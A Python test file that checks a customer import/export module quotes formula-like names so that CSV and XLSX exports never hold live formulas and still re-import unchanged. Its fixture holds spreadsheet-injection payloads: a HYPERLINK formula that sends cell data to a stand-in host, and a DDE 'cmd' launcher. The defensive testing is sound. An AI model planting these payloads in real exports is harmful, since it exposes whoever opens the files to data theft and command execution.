"""Exported text never becomes a live formula, and the export still re-imports unchanged."""
import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlmodel import select

from domain.dataio import export_kind, import_file
from domain.dataio import values as v
from domain.models import Customer

HOSTILE = {
    "C101": '=HYPERLINK("http://evil.example/?d="&C2,"Open invoice")',
    "C102": "+cmd|' /C calc'!A0",
    "C103": "-1+1",
    "C104": "@SUM(1,1)",
    "C105": "'=already quoted",
    "C106": "Plain, Ltd.",
}


def _csv(rows) -> str:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["code", "name", "phone", "country"])
    w.writerows(rows)
    return out.getvalue()


async def _load_hostile(session, tmp_path):
    rows = [(code, name, "+359888000" + code[1:], "BG") for code, name in HOSTILE.items()]
    rows.append(("C107", "\t=1+1", "", "BG"))  # the tab goes on import: stored as =1+1
    path = tmp_path / "customers.csv"
    path.write_text(_csv(rows), encoding="utf-8")
    s = await import_file(session, "customers", path, country="BG")
    await session.commit()
    assert s.errors == 0, s.report.render()
    return {c.code: c.name for c in (await session.exec(select(Customer))).all()}


async def test_csv_export_quotes_formulas_and_reimports_unchanged(session, tmp_path):
    stored = await _load_hostile(session, tmp_path)
    assert stored["C101"] == HOSTILE["C101"] and stored["C107"] == "=1+1"
    out = tmp_path / "out.csv"
    await export_kind(session, "customers", "csv", out)
    names = {r["code"]: r["name"] for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert names["C101"] == "'" + HOSTILE["C101"]
    assert names["C102"] == "'+cmd|' /C calc'!A0" and names["C103"] == "'-1+1" and names["C104"] == "'@SUM(1,1)"
    assert names["C107"] == "'=1+1"
    assert names["C105"] == "'=already quoted" and names["C106"] == "Plain, Ltd."  # nothing to do
    phones = {r["code"]: r["phone"] for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert phones["C101"] == "+359888000101"  # a plain number keeps its sign
    for name in names.values():
        assert not name.startswith(v.FORMULA_START)
    s = await import_file(session, "customers", out, country="BG")
    assert (s.errors, s.created, s.updated) == (0, 0, 0), s.report.render()
    await session.commit()
    assert {c.code: c.name for c in (await session.exec(select(Customer))).all()} == stored


async def test_xlsx_export_writes_formulas_as_text_cells(session, tmp_path):
    stored = await _load_hostile(session, tmp_path)
    out = tmp_path / "out.xlsx"
    await export_kind(session, "customers", "xlsx", out)
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
    ws = load_workbook(out).worksheets[0]
    cells = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
    for code in ("C101", "C102", "C103", "C104", "C107"):
        assert cells[code].data_type == "s" and cells[code].value == stored[code], code
        assert cells[code].quotePrefix, code  # stays text when someone edits the cell
    s = await import_file(session, "customers", out, country="BG")
    assert (s.errors, s.created, s.updated) == (0, 0, 0), s.report.render()


def test_quote_and_unquote_are_inverse():
    for value in [*HOSTILE.values(), "=1+1", "\t=1", "\r=1", "+359888", "-5", "-2.5", "'", "''=x", ""]:
        assert v.unquote(v.quote(value)) == value, value
